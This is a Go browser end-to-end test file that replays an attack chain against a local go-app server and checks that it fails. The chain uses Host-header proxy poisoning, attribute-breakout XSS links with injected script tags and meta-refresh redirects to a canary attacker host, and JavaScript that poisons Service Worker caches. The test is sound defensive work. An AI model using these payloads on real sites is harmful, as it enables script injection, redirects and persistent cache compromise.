//go:build browser

package e2e

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	goapp "github.com/maxence-charriere/go-app/v10/pkg/app"
	"golang.org/x/net/html"

	"bilateral/server/security"
)

// TestAttackChain replays issue 11's chain against a server of its own:
// plant a script on our origin through go-app's Host-header proxy
// (/<version>/sitemap.xml), then break out of an attribute of a
// prerendered page to load it (or to refresh to another origin), with the
// service worker installed. No injected script may run, the page must stay
// on our origin, and the worker's caches must hold exactly the URLs it
// precached, with the bytes the server serves. Then a leftover poisoned
// entry and a foreign cache: the worker must not answer from either, and
// the next version must delete both.
func TestAttackChain(t *testing.T) {
	// The attacker's site: every path is a script that marks the page and
	// rewrites /app.js in every cache (what the issue saw happen).
	var canaryHits, canaryNavigations atomic.Int32
	canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		canaryHits.Add(1)
		if r.URL.Path == "/pwned" {
			canaryNavigations.Add(1)
		}
		w.Header().Set("Content-Type", "text/javascript")
		w.Write([]byte(`window.e2ePwned = (window.e2ePwned || 0) + 1;
caches.keys().then((ks) => ks.forEach((k) => caches.open(k).then((c) =>
  c.put("/app.js", new Response("window.e2ePwned = 99;", {headers: {"Content-Type": "text/javascript"}})))));`))
	}))
	defer canary.Close()
	canaryHost := strings.TrimPrefix(canary.URL, "http://")

	srv := startOwnServer(t, "", "chain-v1", "-version", "e2e-chain-1")
	hp, origin := srv.Addr, srv.URL

	// 1. Plant: ask for the proxied files with the attacker's site as Host.
	for _, name := range []string{"sitemap.xml", "robots.txt", "ads.txt"} {
		for _, p := range []string{"/" + name, "/e2e-chain-1/" + name} {
			status, body := rawHostGet(t, hp, p, canaryHost)
			if strings.Contains(body, "e2ePwned") {
				t.Errorf("GET %s with Host %s: %d, the attacker's script", p, canaryHost, status)
			}
		}
	}
	if n := canaryHits.Load(); n != 0 {
		t.Errorf("the server fetched from the Host header's site %d times", n)
	}

	// 2. Install the worker and let it control the page.
	tb := newTab(t, 4*time.Minute)
	defer tb.writeLog(t, "attack-chain")
	visitControlled(t, tb, origin+"/", "overview")

	// 3. The injections, as links a victim would open. Their pages may
	// carry only the inline scripts of a page no one tampered with.
	allowed := cleanInlineScripts(t, origin+"/legal")
	for _, link := range []string{
		`/x"><script src=/e2e-chain-1/sitemap.xml></script>`,
		`/x"><script src=/sitemap.xml></script><b x='`,
		`/x"><meta http-equiv=refresh content="0;url=https:` + canaryHost + `/pwned">`,
		`/x'><meta http-equiv="refresh" content='0;url=https:` + canaryHost + `/pwned'>`,
	} {
		if err := chromedp.Run(tb.ctx, chromedp.Navigate(origin+link)); err != nil {
			t.Fatalf("navigate to %s: %v", link, err)
		}
		ready := tb.waitReady("notfound", readyTimeout)
		time.Sleep(1500 * time.Millisecond) // time for a refresh to fire
		var st struct {
			Pwned   int      `json:"pwned"`
			Href    string   `json:"href"`
			Scripts []string `json:"scripts"`
			Metas   int      `json:"metas"`
		}
		if err := chromedp.Run(tb.ctx, chromedp.Evaluate(`({
			pwned: window.e2ePwned || 0,
			href: location.href,
			scripts: [...document.scripts].map((s) => s.getAttribute("src") || s.textContent),
			metas: document.querySelectorAll("meta[http-equiv]").length,
		})`, &st)); err != nil {
			t.Errorf("%s: %v (the page went elsewhere?)", link, err)
			continue
		}
		if ready != nil {
			t.Errorf("%s: %v", link, ready)
		}
		if st.Pwned != 0 {
			t.Errorf("%s: the injected script ran (e2ePwned = %d)", link, st.Pwned)
		}
		if !strings.HasPrefix(st.Href, origin+"/") {
			t.Errorf("%s: the page went to %s", link, st.Href)
		}
		for _, s := range st.Scripts {
			if strings.Contains(s, "sitemap") || strings.Contains(s, canaryHost) || s != "" && !strings.HasPrefix(s, "/") && !slices.Contains(allowed, s) {
				t.Errorf("%s: the page has the script %.80q", link, s)
			}
		}
		if st.Metas != 0 {
			t.Errorf("%s: the page has %d <meta http-equiv>", link, st.Metas)
		}
	}
	if n := canaryNavigations.Load(); n != 0 {
		t.Errorf("the browser went to the attacker's site %d times", n)
	}
	checkWorkerCaches(t, tb, origin, "e2e-chain-1")

	// 4. A poisoned entry at a URL the worker did not precache, and a
	// foreign cache, as a script that once ran on the origin would leave
	// them: the worker answers from neither.
	var answered string
	if err := chromedp.Run(tb.ctx, evalAwait(`(async () => {
		const evil = () => new Response("window.e2ePwned = 7;", {headers: {"Content-Type": "text/javascript"}});
		for (const k of await caches.keys()) await (await caches.open(k)).put("/web/evil.js", evil());
		await (await caches.open("attacker")).put("/web/evil.js", evil());
		const r = await fetch("/web/evil.js");
		return r.status + " " + (await r.text()).slice(0, 40);
	})()`, &answered)); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(answered, "404 ") {
		t.Errorf("GET /web/evil.js answered %q, want the server's 404, not a cached entry", answered)
	}

	// 5. The next version deletes every other cache.
	srv.Stop()
	startOwnServer(t, hp, "chain-v2", "-version", "e2e-chain-2")
	if err := chromedp.Run(tb.ctx, chromedp.Evaluate(`goappTryUpdate()`, nil)); err != nil {
		t.Fatal(err)
	}
	want := []string{"bilateral:/:e2e-chain-2"}
	var keys []string
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		_ = chromedp.Run(tb.ctx, evalAwait(`caches.keys()`, &keys))
		if fmt.Sprint(keys) == fmt.Sprint(want) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if fmt.Sprint(keys) != fmt.Sprint(want) {
		t.Fatalf("caches after deploying e2e-chain-2: %q, want %q", keys, want)
	}
	checkWorkerCaches(t, tb, origin, "e2e-chain-2")
}

// rawHostGet sends GET path to addr with the given Host header, as a
// client that is not a browser can, and returns the status and body.
func rawHostGet(t *testing.T, addr, path, host string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, "http://"+addr+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	b.ReadFrom(resp.Body)
	return resp.StatusCode, b.String()
}

// cacheEntry is one response in the browser's Cache Storage.
type cacheEntry struct {
	Cache  string `json:"cache"`
	URL    string `json:"url"`
	Type   string `json:"type"`
	SHA256 string `json:"sha256"`
	Text   string `json:"text"` // pages only
}

var (
	workerVersionRE   = regexp.MustCompile(`const version = "([^"]*)";`)
	workerListRE      = regexp.MustCompile(`const resourcesToCache = (\[[^\]]*\]);`)
	workerLanguagesRE = regexp.MustCompile(`const languages = (\[[^\]]*\]);`)
)

// pageLanguage tells whether u, a URL the worker at scope lists, is a
// view's page other than the shell at the scope's root, and its language
// by the worker's own list ("" for the default).
func pageLanguage(worker []byte, u, scope string) (lang string, page bool) {
	m := workerLanguagesRE.FindSubmatch(worker)
	var langs []string
	if m == nil || json.Unmarshal(m[1], &langs) != nil {
		panic("/app-worker.js has no list of languages")
	}
	rest, ok := strings.CutPrefix(u, scope)
	if !ok || rest == "" || strings.Contains(path.Base("/"+rest), ".") {
		return "", false
	}
	first, _, _ := strings.Cut(rest, "/")
	if slices.Contains(langs, first) {
		return first, true
	}
	return "", true
}

// checkWorkerCaches fails unless the browser's only cache is the worker's
// one for version and it holds exactly the URLs /app-worker.js precaches,
// each with the bytes the server serves (pages: the same HTML, whose
// attribute order go-app varies from one render to the next).
func checkWorkerCaches(t *testing.T, tb *tab, origin, version string) {
	t.Helper()
	resp, worker := fetch(t, origin+"/app-worker.js")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /app-worker.js: %d", resp.StatusCode)
	}
	if m := workerVersionRE.FindSubmatch(worker); m == nil || string(m[1]) != version {
		t.Fatalf("/app-worker.js is not version %s", version)
	}
	m := workerListRE.FindSubmatch(worker)
	if m == nil {
		t.Fatal("/app-worker.js has no resourcesToCache list")
	}
	var list []string
	if err := json.Unmarshal(m[1], &list); err != nil {
		t.Fatalf("/app-worker.js resourcesToCache: %v", err)
	}
	// Of the pages, the worker stores those in the languages of the pages
	// open as it installed: this test reads English only.
	precached := map[string]bool{}
	for _, u := range list {
		if lang, page := pageLanguage(worker, u, "/"); !page || lang == "" {
			precached[origin+u] = true
		}
	}

	var entries []cacheEntry
	if err := chromedp.Run(tb.ctx, evalAwait(`(async () => {
		const out = [];
		for (const name of await caches.keys()) {
			const cache = await caches.open(name);
			for (const req of await cache.keys()) {
				const r = await cache.match(req);
				const type = r.headers.get("Content-Type") || "";
				const body = await r.arrayBuffer();
				const sum = new Uint8Array(await crypto.subtle.digest("SHA-256", body));
				out.push({
					cache: name, url: req.url, type,
					sha256: [...sum].map((b) => b.toString(16).padStart(2, "0")).join(""),
					text: type.startsWith("text/html") ? new TextDecoder().decode(body) : "",
				});
			}
		}
		return out;
	})()`, &entries)); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, e := range entries {
		if e.Cache != "bilateral:/:"+version {
			t.Errorf("cache %q holds %s", e.Cache, e.URL)
			continue
		}
		if !precached[e.URL] {
			t.Errorf("the worker's cache holds %s, which it does not precache", e.URL)
			continue
		}
		seen[e.URL] = true
		resp, body := fetch(t, e.URL)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("GET %s: %d", e.URL, resp.StatusCode)
			continue
		}
		if strings.HasPrefix(e.Type, "text/html") {
			switch {
			case canonicalHTML(t, []byte(e.Text), true) == canonicalHTML(t, body, true):
			case canonicalHTML(t, []byte(e.Text), false) == canonicalHTML(t, body, false):
				// Under load the server may send a page with a chart
				// left for the Wasm to draw (and not keep it): the same
				// page, less a drawing.
				t.Logf("the cached page %s and the served one differ only in the charts the server drew", e.URL)
			default:
				t.Errorf("the cached page %s is not the page the server serves", e.URL)
			}
			continue
		}
		sum := sha256.Sum256(body)
		if hex.EncodeToString(sum[:]) != e.SHA256 {
			t.Errorf("the cached %s is not the file the server serves", e.URL)
		}
	}
	var missing []string
	for u := range precached {
		if !seen[u] {
			missing = append(missing, u)
		}
	}
	sort.Strings(missing)
	if len(missing) > 0 {
		t.Errorf("the worker's cache lacks %s", strings.Join(missing, " "))
	}
}

// canonicalHTML is a page's element tree with each element's attributes
// sorted, and its text: equal for two renders of one page. Without
// drawings, the server's chart drawings (<svg data-w>) and their markers
// (data-drawn, go-app's KeepServedChildren) are left out.
func canonicalHTML(t *testing.T, page []byte, drawings bool) string {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			if !drawings && n.Data == "svg" && slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "data-w" }) {
				return
			}
			attrs := make([]string, 0, len(n.Attr))
			for _, a := range n.Attr {
				if !drawings && (a.Key == "data-drawn" || a.Key == goapp.KeepServedChildren) {
					continue
				}
				attrs = append(attrs, a.Key+"="+a.Val)
			}
			sort.Strings(attrs)
			fmt.Fprintf(&b, "<%s %q>", n.Data, attrs)
		case html.TextNode:
			b.WriteString(n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
		if n.Type == html.ElementNode {
			fmt.Fprintf(&b, "</%s>", n.Data)
		}
	}
	walk(doc)
	return b.String()
}

// TestWorkerOnStaticHost: on a static host, /trade redirects to /trade/
// and the worker stores no redirected response, so the export precaches
// each page at its directory URL. The worker must install there, cache only
// its list, and open a deep link with the host gone.
func TestWorkerOnStaticHost(t *testing.T) {
	const prefix = "/bilateral"
	srv := staticHost(exportSite(t, prefix), prefix)
	defer srv.Close()

	tb := newTab(t, 3*time.Minute)
	defer tb.writeLog(t, "worker-static-host")
	if err := chromedp.Run(tb.ctx, chromedp.Navigate(srv.URL+prefix+"/")); err != nil {
		t.Fatal(err)
	}
	if err := tb.waitReady("overview", readyTimeout); err != nil {
		t.Fatal(err)
	}
	waitWorker(t, tb)
	var cached []string
	if err := chromedp.Run(tb.ctx, evalAwait(`(async () => {
		const out = [];
		for (const name of await caches.keys()) {
			for (const r of await (await caches.open(name)).keys()) out.push(name + " " + new URL(r.url).pathname);
		}
		return out;
	})()`, &cached)); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{prefix + "/", prefix + "/trade/", prefix + "/web/app.wasm"} {
		if !contains(cached, "bilateral:"+prefix+"/:"+workerVersion(t, srv.URL+prefix)+" "+want) {
			t.Errorf("the worker did not cache %s (cached: %s)", want, strings.Join(cached, ", "))
		}
	}

	srv.Close()
	link := prefix + "/trade?fig=trade-2023"
	if err := chromedp.Run(tb.ctx, chromedp.Navigate(srv.URL+link)); err != nil {
		t.Fatalf("offline %s: %v", link, err)
	}
	if err := tb.waitReady("trade", readyTimeout); err != nil {
		t.Fatalf("offline %s: %v", link, err)
	}
}

// workerVersion is the version the worker at site+"/app-worker.js" caches for.
func workerVersion(t *testing.T, site string) string {
	t.Helper()
	_, worker := fetch(t, site+"/app-worker.js")
	m := workerVersionRE.FindSubmatch(worker)
	if m == nil {
		t.Fatalf("%s/app-worker.js has no version", site)
	}
	return string(m[1])
}

// cleanInlineScripts are the inline scripts of the page at url, fetched
// plainly: web/theme.js and go-app's start script (server/site/inline.go,
// go-app patch 14). The test fails if there are not exactly those two, so
// an injection cannot hide in a page that has none to compare with.
func cleanInlineScripts(t *testing.T, url string) []string {
	t.Helper()
	res, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var b bytes.Buffer
	if _, err := b.ReadFrom(res.Body); err != nil {
		t.Fatal(err)
	}
	scripts := security.InlineScripts(b.String())
	theme, err := os.ReadFile(filepath.Join("..", "web", "theme.js"))
	if err != nil {
		t.Fatal(err)
	}
	if len(scripts) != 2 || !slices.Contains(scripts, string(theme)) {
		t.Fatalf("%s: inline scripts %.80q, want web/theme.js and go-app's start script", url, scripts)
	}
	return scripts
}
